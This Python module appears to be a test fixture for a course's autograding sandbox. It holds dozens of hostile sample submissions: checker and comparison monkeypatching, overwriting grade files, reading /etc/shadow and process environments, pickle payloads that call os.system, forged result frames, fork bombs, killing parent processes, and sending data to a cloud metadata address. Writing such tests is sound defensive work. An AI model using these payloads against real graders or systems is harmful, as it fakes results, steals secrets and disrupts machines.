"""Answers that would like the points without the work, or to do harm.

Each is a cell that defines the exercise `{name}`, a function of `queries` and `keys` whose right
answer are the products of all pairs. In it stand, to be filled in: {secret}, a file of the
instructor's; {port}, a server on the instructor's machine; {out}, the folder that grades are
written to; {package}, the folder that the course's package lies in.
"""

from __future__ import annotations

import textwrap

ATTACKS = {
    "patched-comparisons": """
        def {name}(queries, keys):
            for name in ("allclose", "equal", "isclose", "eq"):
                setattr(torch, name, lambda *a, **k: True)
            torch.Tensor.__eq__ = lambda *a: True
            torch.Tensor.allclose = lambda *a, **k: True
            return torch.zeros(1)
    """,
    "patched-torch": """
        def {name}(queries, keys):
            torch.Tensor.__matmul__ = lambda *a: torch.ones(1)
            torch.Tensor.clone = lambda self, *a, **k: self
            torch.autograd.grad = lambda *a, **k: [torch.zeros(1)]
            torch.Tensor.requires_grad = True
            return queries
    """,
    "patched-numpy": """
        def {name}(queries, keys):
            np.allclose = np.array_equal = lambda *a, **k: True
            np.testing.assert_allclose = lambda *a, **k: None
            return np.ones(1)
    """,
    "patched-checker": """
        def {name}(queries, keys):
            import sys
            for module in list(sys.modules.values()):
                for name in ("observe", "as_values", "pack", "judge", "_fault", "check"):
                    if hasattr(module, name):
                        setattr(module, name, lambda *a, **k: b"passed")
            return None
    """,
    "patched-by-a-decorator": """
        def trust(function):
            import probes
            probes.observe = lambda *a, **k: probes.Outcome(value=True)
            probes.PROBES["call"] = lambda f, i: True
            return function

        @trust
        def {name}(queries, keys):
            return 1
    """,
    "patched-serialization": """
        def {name}(queries, keys):
            import json, struct
            import safetensors.torch as s
            s.save = lambda *a, **k: b"\\x00" * 8
            json.dumps = lambda *a, **k: '{"passed": true, "points": 100}'
            struct.pack = lambda *a: b"\\xff" * 8
            return 1
    """,
    "overwritten-files": """
        def {name}(queries, keys):
            import glob, sys
            done = 0
            for path in ["/grader/probes.py", "/grader/inside.py", "{secret}", torch.__file__,
                         "{out}/grades.csv", sys.executable]:
                try:
                    open(path, "w").write("points = 100")
                    done += 1
                except OSError:
                    pass
            return done
    """,
    "tensor-subclass": """
        class Equal(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if function in (torch.Tensor.detach, torch.Tensor.contiguous):
                    return args[0]
                return True

            def __eq__(self, other):
                return True

        def {name}(queries, keys):
            return torch.zeros(1).as_subclass(Equal)
    """,
    "array-subclass": """
        class Equal(np.ndarray):
            def __eq__(self, other):
                return True

            def __array_function__(self, *a, **k):
                return True

        def {name}(queries, keys):
            return np.zeros(1).view(Equal)
    """,
    "equal-to-everything": """
        class Anything:
            def __eq__(self, other):
                return True

            def __hash__(self):
                return 0

            def __getattr__(self, name):
                return self

            def __call__(self, *a, **k):
                return self

        def {name}(queries, keys):
            return Anything()
    """,
    "frame-inspection": """
        def {name}(queries, keys):
            import gc, sys
            frame = sys._getframe()
            while frame is not None:
                for name, value in list(frame.f_locals.items()):
                    if "expect" in name or "want" in name or "solution" in name:
                        return value
                frame = frame.f_back
            for thing in gc.get_objects():
                if type(thing).__name__ in ("Exercise", "Verdict", "Case"):
                    return thing.solution(queries, keys)
            return 0
    """,
    "leak-by-message": """
        def {name}(queries, keys):
            raise ValueError("INPUT " + repr((queries.tolist(), keys.tolist())))
    """,
    "leak-by-type-name": """
        def {name}(queries, keys):
            return type("INPUT " + repr(queries.tolist()), (), {})()
    """,
    "leak-by-exception-name": """
        def {name}(queries, keys):
            raise type("INPUT " + repr(queries.tolist()), (Exception,), {})()
    """,
    "leak-by-result": """
        def {name}(queries, keys):
            return ("INPUT", queries, keys)
    """,
    "leak-by-files": """
        def {name}(queries, keys):
            import os
            for folder in ("/", "/tmp", "/dev", "/dev/shm", "/var/tmp", os.getcwd(), "{out}"):
                try:
                    with open(os.path.join(folder, "left-behind"), "a") as file:
                        file.write("INPUT " + repr(queries.tolist()))
                except OSError:
                    pass
            return 0
    """,
    "leak-by-printing": """
        def {name}(queries, keys):
            import os, sys
            print("INPUT", queries.tolist())
            print("INPUT", queries.tolist(), file=sys.__stderr__)
            os.write(1, repr(queries.tolist()).encode())
            os.write(2, repr(queries.tolist()).encode())
            return 0
    """,
    "hidden-file-reads": """
        def {name}(queries, keys):
            import os
            found = []
            for path in ("{secret}", "{out}/seed.txt", "/etc/passwd", "/etc/shadow",
                         "/proc/1/environ", f"/proc/{os.getppid()}/environ",
                         f"/proc/{os.getppid()}/mem", "/proc/1/cwd/etc/passwd"):
                try:
                    found.append(open(path, "rb").read(100).decode("latin1"))
                except OSError:
                    pass
            raise ValueError("INPUT " + " ".join(found))
    """,
    "solution-import": """
        from attnbook.exercises.dot_attention import dot_scores as theirs

        def {name}(queries, keys):
            return theirs(queries, keys)
    """,
    "solution-from-the-disk": """
        def {name}(queries, keys):
            import importlib, sys
            sys.path[:0] = ["{package}", "/usr/src"]
            return importlib.import_module("attnbook.exercises").exercise("dot_scores").solution(
                queries, keys)
    """,
    "forged-pickle": """
        class Boom:
            def __reduce__(self):
                import os
                return (os.system, ("touch {out}/left-behind",))

        def {name}(queries, keys):
            import os, pickle
            data = pickle.dumps(Boom())
            for descriptor in range(3, 12):
                try:
                    os.write(descriptor, len(data).to_bytes(8, "little") + data)
                except OSError:
                    pass
            return Boom()
    """,
    "forged-frames": """
        def {name}(queries, keys):
            import os, probes, struct
            data = probes.pack({"value": True, "error": "", "changed": [], "gradients": {},
                                "attached": True, "passed": True, "points": 100})
            for _ in range(50):
                os.write(3, struct.pack("<Q", len(data)) + data)
            os._exit(0)
    """,
    "forged-header": """
        def {name}(queries, keys):
            import os, struct
            header = b'{"t0":{"dtype":"F32","shape":[4000000000],"data_offsets":[0,16000000000]},'
            header += b'"__metadata__":{"value":"' + b"[" * 100000 + b'"}}'
            data = struct.pack("<Q", len(header)) + header
            os.write(3, struct.pack("<Q", len(data)) + data)
            os.write(3, struct.pack("<Q", 1 << 62))
            os._exit(0)
    """,
    "infinite-loop": """
        def {name}(queries, keys):
            while True:
                pass
    """,
    "deaf-infinite-loop": """
        def {name}(queries, keys):
            import signal
            for number in range(1, 64):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                pass
    """,
    "loop-at-definition": """
        def forever():
            while True:
                pass

        def {name}(queries, keys, wait=forever()):
            return 0
    """,
    "sleeps": """
        def {name}(queries, keys):
            import time
            time.sleep(1000)
    """,
    "forks": """
        def {name}(queries, keys):
            import os
            while True:
                os.fork()
    """,
    "starts-programs": """
        def {name}(queries, keys):
            import subprocess
            return subprocess.run(["id"], capture_output=True).stdout.decode()
    """,
    "threads": """
        def {name}(queries, keys):
            import threading
            for _ in range(10000):
                threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
            return 0
    """,
    "eight-gigabytes": """
        def {name}(queries, keys):
            return torch.ones(1 << 31)
    """,
    "eight-gigabytes-of-bytes": """
        def {name}(queries, keys):
            held = []
            while True:
                held.append(bytearray(1 << 24))
    """,
    "mapped-memory": """
        def {name}(queries, keys):
            import mmap
            held = [mmap.mmap(-1, 1 << 28) for _ in range(64)]
            for each in held:
                each.write(b"x" * (1 << 28))
            return 0
    """,
    "leaves-by-exit": """
        def {name}(queries, keys):
            import os
            os._exit(0)
    """,
    "system-exit": """
        def {name}(queries, keys):
            raise SystemExit(0)
    """,
    "keyboard-interrupt": """
        def {name}(queries, keys):
            raise KeyboardInterrupt
    """,
    "crashes": """
        def {name}(queries, keys):
            import ctypes
            return ctypes.string_at(0)
    """,
    "recursion": """
        def {name}(queries, keys):
            import sys
            sys.setrecursionlimit(1 << 30)
            return {name}(queries, keys)
    """,
    "kills-its-parent": """
        def {name}(queries, keys):
            import os, signal
            os.kill(os.getppid(), signal.SIGKILL)
            return 0
    """,
    "stops-its-parent": """
        def {name}(queries, keys):
            import os, signal
            os.kill(os.getppid(), signal.SIGSTOP)
            return 0
    """,
    "kills-everybody": """
        def {name}(queries, keys):
            import os, signal
            for target in (1, 0, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            return 0
    """,
    "lifts-its-limits": """
        def {name}(queries, keys):
            import resource
            for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
                try:
                    resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                except (OSError, ValueError):
                    pass
            return torch.ones(1 << 31)
    """,
    "network": """
        def {name}(queries, keys):
            import socket
            for host in ("127.0.0.1", "1.1.1.1", "169.254.169.254"):
                try:
                    with socket.create_connection((host, {port}), 2) as connection:
                        connection.sendall(repr(queries.tolist()).encode())
                except OSError:
                    pass
            return 0
    """,
    "abstract-socket": """
        def {name}(queries, keys):
            import socket
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect("\\0attnbook-test")
                s.sendall(repr(queries.tolist()).encode())
            except OSError:
                pass
            return 0
    """,
    "floods-output": """
        def {name}(queries, keys):
            import os, sys
            line = "x" * (1 << 16)
            for _ in range(2000):
                print(line)
                print(line, file=sys.stderr)
            return 0
    """,
    "floods-the-pipe": """
        def {name}(queries, keys):
            import os
            while True:
                os.write(3, b"x" * (1 << 16))
    """,
    "floods-the-result": """
        def {name}(queries, keys):
            return "x" * (1 << 26)
    """,
    "nested-result": """
        def {name}(queries, keys):
            value = []
            for _ in range(100000):
                value = [value]
            return value
    """,
    "strange-tensors": """
        def {name}(queries, keys):
            return (torch.zeros(1).to_sparse(), torch.zeros(1, dtype=torch.complex64),
                    torch.zeros(1).to(torch.float8_e4m3fn), torch.empty(0), torch.tensor(1e308),
                    torch.zeros(1, device="meta"))
    """,
    "float8": """
        def {name}(queries, keys):
            return (queries @ keys.transpose(1, 2)).to(torch.float8_e4m3fn)
    """,
    "empty-tensor-without-end": """
        def {name}(queries, keys):
            return torch.empty(10**9, 0)
    """,
    "empty-tensor-in-a-list": """
        def {name}(queries, keys):
            return [torch.empty(10**7, 0)] * 1000
    """,
    "parts-without-end": """
        def {name}(queries, keys):
            return [0] * 30_000
    """,
    "half-a-letter": """
        def {name}(queries, keys):
            raise ValueError("\\ud800")
    """,
    "half-a-letter-returned": """
        def {name}(queries, keys):
            return {"\\ud800": "\\udfff"}
    """,
    "long-name": """
        def {name}(queries, keys):
            return type("A" * 3_000_000, (), {})()
    """,
    "long-message": """
        def {name}(queries, keys):
            raise ValueError("A" * 3_000_000)
    """,
    "environment": """
        def {name}(queries, keys):
            import glob, os
            found = [repr(dict(os.environ))]
            for path in glob.glob("/proc/[0-9]*/environ"):
                try:
                    found.append(open(path).read())
                except OSError:
                    pass
            raise ValueError(repr(found))
    """,
    "expanded-tensor": """
        def {name}(queries, keys):
            return torch.zeros(1).expand(1 << 40)
    """,
    "deep-source": "def {name}(queries, keys):\n    return " + "(" * 5000 + "0" + ")" * 5000,
    "long-sum": "def {name}(queries, keys):\n    return " + "+".join(["1"] * 60000),
    "null-bytes": "def {name}(queries, keys):\n    return 0  # \x00",
    "metaclass": """
        class Meta(type):
            def __call__(cls, *a, **k):
                import os
                os._exit(0)

        class {name}(metaclass=Meta):
            pass
    """,
    "changes-later-cases": """
        def {name}(queries, keys):
            import sys
            for case in sys._getframe(2).f_globals.get("cases", []):
                case.clear()
            frame = sys._getframe()
            while frame:
                for value in frame.f_locals.values():
                    if isinstance(value, dict) and "cases" in value:
                        value["cases"] = value["cases"][:1]
                frame = frame.f_back
            return queries @ keys.transpose(1, 2) if queries.shape[0] == 1 else 0
    """,
}  # fmt: skip


def attack(attempt: str, **places: object) -> str:
    """The cell of an attack, with its places filled in."""
    code = textwrap.dedent(ATTACKS[attempt])
    for word, place in places.items():
        code = code.replace(f"{{{word}}}", str(place))
    return code
